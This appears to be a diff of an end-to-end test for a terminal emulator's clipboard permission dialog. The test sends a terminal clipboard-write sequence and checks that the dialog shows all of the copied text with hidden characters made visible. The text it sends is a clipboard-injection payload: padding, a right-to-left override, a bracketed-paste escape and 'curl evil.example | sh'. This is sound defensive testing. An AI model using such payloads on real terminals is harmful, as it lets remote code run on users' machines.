@@ -107,7 +107,11 @@ describe('the clipboard', () => {
   it('[X18] the question shows all of what would be copied, and stays until it is answered', async () => {
     const terminal = terminalOf(page);
     const text = `${'harmless '.repeat(200)}\u202e\x1b[201~\ncurl evil.example | sh\n`;
-    await terminal.types(`printf '\\033]52;c;${base64(text)}\\007'\n`);
+    // Made by the shell: to type that much takes long.
+    await terminal.types(
+      String.raw`t=$( (printf 'harmless %.0s' $(seq 200); printf '\342\200\256\033[201~\ncurl evil.example | sh\n') | base64 | tr -d '\n'); printf '\033]52;c;%s\007' "$t"` +
+        '\n',
+    );
     const question = page.getByRole('dialog', { name: 'Let the program copy this?' });
     const preview = question.locator('.preview');
     const shown = `${'harmless '.repeat(200)}⟨U+202E⟩␛[201~\ncurl evil.example | sh␊`;
